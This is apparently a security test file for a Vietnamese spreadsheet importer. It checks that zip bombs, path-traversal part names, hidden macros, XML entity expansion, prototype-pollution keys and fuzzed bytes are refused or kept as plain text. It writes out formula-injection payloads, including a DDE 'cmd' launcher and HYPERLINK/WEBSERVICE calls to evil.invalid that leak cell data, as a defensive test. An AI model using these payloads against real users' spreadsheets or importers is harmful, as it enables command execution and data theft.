// Files made to hurt an importer. Each must end in a typed refusal or in plain data, within time and memory, in a process
// of its own; none may crash the reader, run anything, or leave as a formula.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import * as XLSX from 'xlsx'
import { dryRun } from '../../electron/import/dryRun.ts'
import { ImportSession } from '../../electron/import/importSession.ts'
import { readWorkbook } from '../../electron/import/readWorkbook.ts'
import { NO_RECORDS } from '../../shared/excel/ImportLookup.ts'
import { cellText, type Workbook } from '../../shared/excel/workbook.ts'
import { sentences } from '../../shared/messages/sentences.ts'
import { registerOf } from '../../shared/registers/registry.ts'
import { type FixtureCell, makeXlsx, makeZip, xlsxEntries } from '../workbookFixtures.ts'

const folder = mkdtempSync(join(tmpdir(), 'sdl-attack-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))

const register = registerOf('open-dataset')!
const HEADINGS = ['STT', 'Tên bộ dữ liệu', 'Mô tả']
const list = (rows: FixtureCell[][]) => [{ name: 'DS', rows: [HEADINGS, ...rows] }]

async function read(bytes: Uint8Array, name = 'danh-sach.xlsx'): Promise<Workbook | string> {
  const result = await readWorkbook({ bytes }, name)
  if (result.ok) return result.value
  expect(sentences[result.error.code].vi).toMatch(/Sổ chưa có gì thay đổi/)
  return result.error.code
}

async function refused(bytes: Uint8Array, name?: string): Promise<string> {
  const result = await read(bytes, name)
  return typeof result === 'string' ? result : 'was read'
}

const good = makeXlsx(
  list([
    [1, 'Bộ A', 'a'],
    [2, 'Bộ B', 'b'],
  ]),
)

describe('containers', () => {
  it('refuses a bomb by its declared ratio, with nothing inflated', async () => {
    const bomb = makeXlsx(list([[1, 'x', 'y']]), [
      { name: 'xl/worksheets/sheet9.xml', data: Buffer.alloc(60 * 1024 * 1024) },
    ])
    const before = process.memoryUsage().rss
    expect(await refused(bomb)).toBe('import-bomb')
    expect(process.memoryUsage().rss - before).toBeLessThan(50 * 1024 * 1024)
  })
  it('refuses a bomb that declares 1,000 bytes and inflates to 60 MB', async () => {
    const data = Buffer.alloc(60 * 1024 * 1024, 0x20)
    const entries = xlsxEntries(list([[1, 'x', 'y']])).filter((e) => e.name !== 'xl/worksheets/sheet1.xml')
    const bomb = makeZip([...entries, { name: 'xl/worksheets/sheet1.xml', data, declared: 1_000 }])
    expect(await refused(bomb)).toBe('import-bomb')
  })
  it('refuses parts that overlap', async () => {
    const entries = xlsxEntries(list([[1, 'x', 'y']]))
    const copies = Array.from({ length: 50 }, (_, i) => ({ ...entries[0]!, name: `xl/c${i}.xml`, at: 0 }))
    expect(await refused(makeZip([...entries, ...copies]))).toBe('import-bomb')
  })
  it('does not open a container inside the container', async () => {
    const nested = makeXlsx(list([[1, 'Bộ A', 'a']]), [{ name: 'xl/embeddings/inner.xlsx', data: good }])
    expect(await read(nested)).toMatchObject({ kind: 'xlsx' })
  })
  it('refuses more than 1,000 parts', async () => {
    const many = Array.from({ length: 1_000 }, (_, i) => ({
      name: `xl/media/${i}.txt`,
      data: Buffer.from('x'),
    }))
    expect(await refused(makeXlsx(list([[1, 'x', 'y']]), many))).toBe('import-too-many-parts')
  })
  it.each(['../../evil.xml', '/etc/passwd', 'xl\\..\\..\\evil.xml'])(
    'refuses a part named %s',
    async (name) => {
      expect(await refused(makeXlsx(list([[1, 'x', 'y']]), [{ name, data: Buffer.from('x') }]))).toBe(
        'import-damaged',
      )
    },
  )
  it('refuses two parts of one name: which is read would differ by program', async () => {
    const twice = makeXlsx(list([[1, 'x', 'y']]), [
      { name: 'xl/Workbook.xml', data: Buffer.from('<workbook/>') },
    ])
    expect(await refused(twice)).toBe('import-damaged')
  })
  it('refuses an encrypted part, an encrypted package, and an .xls with a password record', async () => {
    const entries = xlsxEntries(list([[1, 'x', 'y']])).map((e) => ({ ...e, flags: 1 }))
    expect(await refused(makeZip(entries))).toBe('import-encrypted')
    const package_ = Buffer.alloc(2_048)
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(package_)
    Buffer.from('EncryptedPackage', 'utf16le').copy(package_, 600)
    expect(await refused(package_)).toBe('import-encrypted')
  })
  it('refuses a file cut at any place, and never crashes', async () => {
    const cuts = [1, 3, 4, 22, 100, 0.25, 0.5, 0.75, 0.99].map((c) =>
      c < 1 ? Math.floor(good.length * c) : c,
    )
    for (const cut of cuts) {
      expect(await refused(good.subarray(0, cut))).toMatch(
        /^import-(truncated|damaged|not-a-workbook|no-header)$|was read/,
      )
    }
    expect(await refused(good.subarray(0, good.length - 1))).toBe('import-truncated')
    expect(await refused(good.subarray(0, good.length / 2))).toBe('import-truncated')
  })
  it('refuses a flipped bit in a part', async () => {
    const at = good.indexOf('xl/worksheets/sheet1.xml') + 60
    const flipped = Buffer.from(good)
    flipped[at]! ^= 0x10
    expect(await refused(flipped)).toMatch(/^import-(damaged|bomb|truncated)$/)
  })
  it('refuses a container of 0 bytes, of no parts, and of no workbook', async () => {
    expect(await refused(Buffer.alloc(0))).toBe('import-empty')
    expect(await refused(makeZip([]))).toBe('import-empty')
    expect(await refused(makeZip([{ name: 'a.txt', data: Buffer.from('a') }]))).toBe('import-not-a-workbook')
  })
  it('refuses what is no workbook whatever its name', async () => {
    const png = Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      Buffer.alloc(500),
    ])
    expect(await refused(png)).toBe('import-not-a-workbook')
    expect(await refused(Buffer.from('%PDF-1.7 ...'))).toBe('import-not-a-workbook')
    expect(await refused(Buffer.from('<html><table><tr><td>1</td></tr></table></html>'), 'a.xls')).toBe(
      'import-html',
    )
    expect(await refused(Buffer.from('<?xml version="1.0"?><Workbook/>'), 'a.xls')).toBe('import-unsupported')
  })
  it('refuses a macro under the name of a plain workbook and leaves one unread under its own', async () => {
    const macro = [{ name: 'xl/vbaProject.bin', data: Buffer.from('macro') }]
    expect(await refused(makeXlsx(list([[1, 'x', 'y']]), macro), 'a.xlsx')).toBe('import-macro-hidden')
    expect(await read(makeXlsx(list([[1, 'x', 'y']]), macro), 'a.xlsm')).toMatchObject({ macros: true })
  })
  it('stops a parser that takes too long or too much memory', async () => {
    const slow = await readWorkbook({ bytes: good }, 'a.xlsx', { limits: { timeoutMs: 5 } })
    expect(slow).toEqual({ ok: false, error: { code: 'import-timeout' } })
    const big = makeXlsx(list(Array.from({ length: 60_000 }, (_, i) => [i, `Bộ số ${i}`, `mô tả ${i * 7}`])))
    const fat = await readWorkbook({ bytes: big }, 'a.xlsx', { limits: { rssBytes: 60 * 1024 * 1024 } })
    expect(fat).toEqual({ ok: false, error: { code: 'import-memory' } })
  })
  it('stops at once when cancelled', async () => {
    const control = new AbortController()
    const reading = readWorkbook({ bytes: good }, 'a.xlsx', { signal: control.signal })
    control.abort()
    expect(await reading).toEqual({ ok: false, error: { code: 'import-cancelled' } })
  })
})

describe('sheets', () => {
  it('reads a sheet that claims A1:XFD1048576 in 150 MB, long before the kill timer', async () => {
    const claims = makeXlsx([{ ...list([[1, 'Bộ A', 'a']])[0]!, dimension: 'A1:XFD1048576' }])
    const result = await readWorkbook({ bytes: claims }, 'a.xlsx', {
      limits: { rssBytes: 150 * 1024 * 1024, timeoutMs: 10_000 },
    })
    expect(result.ok && result.value.sheets[0]!.rows.length).toBe(2)
  })
  it('reads a sheet with one stray cell in the last corner', async () => {
    const stray = makeXlsx([{ name: 'DS', rows: [HEADINGS, [1, 'Bộ A', 'a']] }])
    const entries = xlsxEntries([{ name: 'DS', rows: [HEADINGS, [1, 'Bộ A', 'a']] }]).map((e) =>
      e.name.endsWith('sheet1.xml')
        ? {
            ...e,
            data: Buffer.from(
              e.data
                .toString()
                .replace('</sheetData>', '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'),
            ),
          }
        : e,
    )
    expect(stray.length).toBeGreaterThan(0)
    const result = await dryRun({ bytes: makeZip(entries) }, 'a.xlsx', { register })
    expect(result.ok && result.value.counts.new).toBe(1)
    const counts = result.ok ? result.value.counts : null
    expect(counts && counts.new + counts.skipped + counts.parked).toBe(1_048_575)
  })
  it('reads a merge over the whole sheet without walking it', async () => {
    const merged = makeXlsx([{ ...list([[1, 'Bộ A', 'a']])[0]!, merges: ['A5:XFD1048576', 'A3:C3'] }])
    expect((await dryRun({ bytes: merged }, 'a.xlsx', { register })).ok).toBe(true)
  })
  it('refuses a text file of 100,000 columns', async () => {
    const text = Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(',')
    expect(await refused(Buffer.from(`${text}\n${text}`), 'a.csv')).toBe('import-too-many-cells')
  })
  it('refuses 1,000 sheets', async () => {
    const sheets = Array.from({ length: 980 }, (_, i) => ({ name: `S${i}`, rows: [['a', 'b']] }))
    expect(await refused(makeXlsx(sheets))).toBe('import-too-many-cells')
  })
  it('refuses entities ("billion laughs")', async () => {
    const entries = xlsxEntries(list([[1, 'x', 'y']])).map((e) =>
      e.name.endsWith('sheet1.xml')
        ? {
            ...e,
            data: Buffer.concat([
              Buffer.from('<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>'),
              e.data,
            ]),
          }
        : e,
    )
    expect(await refused(makeZip(entries))).toBe('import-damaged')
  })
  it('keeps headings and values named after object internals as plain text', async () => {
    const names = ['__proto__', 'constructor', 'toString', 'hasOwnProperty']
    const bytes = makeXlsx([
      {
        name: '__proto__',
        rows: [
          ['STT', 'Tên bộ dữ liệu', ...names],
          [1, '__proto__', ...names],
          [2, 'constructor', ...names],
        ],
      },
    ])
    const result = await dryRun({ bytes }, 'a.xlsx', { register, remembered: {} })
    expect(result.ok && result.value.sheets[0]!.rows.map((row) => row.values['title'])).toEqual([
      '__proto__',
      'constructor',
    ])
    expect(({} as Record<string, unknown>)['title']).toBeUndefined()
  })
  it('reads lone surrogates, control signs and NUL as text that can be stored', async () => {
    const bytes = Buffer.from('STT;Tên bộ dữ liệu\n1;A\ud800B\n2;C\u0000\u0002D\n', 'utf16le')
    const result = await dryRun({ bytes }, 'a.csv', { register })
    const names = result.ok ? result.value.sheets[0]!.rows.map((row) => row.values['title']) : []
    expect(names).toEqual(['A\ufffdB', 'CD'])
  })
  it('survives random bytes after every known beginning', async () => {
    let seed = 7
    const next = () => {
      seed = (seed * 1_103_515_245 + 12_345) & 0x7fffffff
      return seed & 0xff
    }
    const ole = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]
    for (const start of [[0x50, 0x4b, 3, 4], ole, [9, 8, 16, 0], [0xff, 0xfe], [0x3c]]) {
      const bytes = Buffer.from([...start, ...Array.from({ length: 3_000 }, next)])
      expect(await refused(bytes)).toMatch(/^import-|was read/)
    }
  })
})

describe('formulas', () => {
  const heads = ['=', '+', '-', '@', '\t=', '\r=', ' =', '＝', '＋', '－', '＠', '\u00a0=', "'="]
  const tails = [
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.invalid?x="&A1,"bấm")',
    'SUM(1+1)*cmd',
    '1+1',
    'WEBSERVICE("http://evil.invalid")',
  ]
  const texts = heads.flatMap((head) =>
    tails.flatMap((tail) =>
      Array.from({ length: 8 }, (_, i) => `${head}${tail}${' '.repeat(i % 2)}${i || ''}`),
    ),
  )
  let session: ImportSession
  beforeAll(async () => {
    // The first column's name is there; a bad date parks every row, so that all of them come back marked.
    const rows: FixtureCell[][] = texts.map((text, i) => [i + 1, text, 'không phải ngày'])
    const bytes = makeXlsx([{ name: 'DS', rows: [['STT', 'Tên bộ dữ liệu', 'Ngày công bố'], ...rows] }])
    const opened = await ImportSession.open({ bytes }, 'tan-cong.xlsx', { register, lookup: NO_RECORDS })
    if (!opened.ok) throw new Error(opened.error.code)
    session = opened.value
    expect(session.plan({ sheet: 'DS' }).ok).toBe(true)
  })
  it('come in as text, over 500 of them', () => {
    expect(texts.length).toBeGreaterThanOrEqual(500)
    const all = session.rows('all', 0, 10_000)
    expect(all.total).toBe(texts.length)
    for (const row of all.rows) expect(typeof row.values['title']).toBe('string')
  })
  it('go out as text in the marked workbook', () => {
    const marked = session.marked()
    if (!marked.ok) throw new Error(marked.error.code)
    const file = join(folder, 'marked.xlsx')
    writeFileSync(file, marked.value.bytes)
    const book = XLSX.read(readFileSync(file), { cellFormula: true })
    let cells = 0
    for (const name of book.SheetNames) {
      for (const [at, cell] of Object.entries(book.Sheets[name]!)) {
        if (at.startsWith('!')) continue
        cells++
        expect((cell as XLSX.CellObject).f).toBeUndefined()
      }
    }
    expect(cells).toBeGreaterThan(texts.length * 3)
  })
  it('that reach outside the workbook give way to their values when it is handed back; sums stay', async () => {
    const rows: FixtureCell[][] = [
      [1, 'Bộ A', 'sai ngày', { xml: `><f>cmd|'/c calc'!A1</f><v>0</v>` }],
      [2, 'Bộ B', 'sai ngày', { xml: '><f>SUM(A2:A3)</f><v>3</v>' }],
    ]
    const bytes = makeXlsx([
      { name: 'DS', rows: [['STT', 'Tên bộ dữ liệu', 'Ngày công bố', 'Số bản ghi'], ...rows] },
    ])
    const opened = await ImportSession.open({ bytes }, 'a.xlsx', { register, lookup: NO_RECORDS })
    if (!opened.ok) throw new Error(opened.error.code)
    opened.value.plan({ sheet: 'DS' })
    const marked = opened.value.marked()
    const sheet = marked.ok ? XLSX.read(marked.value.bytes, { cellFormula: true }).Sheets['DS']! : {}
    expect((sheet['D2'] as XLSX.CellObject).f).toBeUndefined()
    expect((sheet['D3'] as XLSX.CellObject).f).toBe('SUM(A2:A3)')
    expect(marked.ok && cellText(opened.value.workbook.sheets[0]!.rows[1]!.cells[1])).toBe('Bộ A')
  })
})
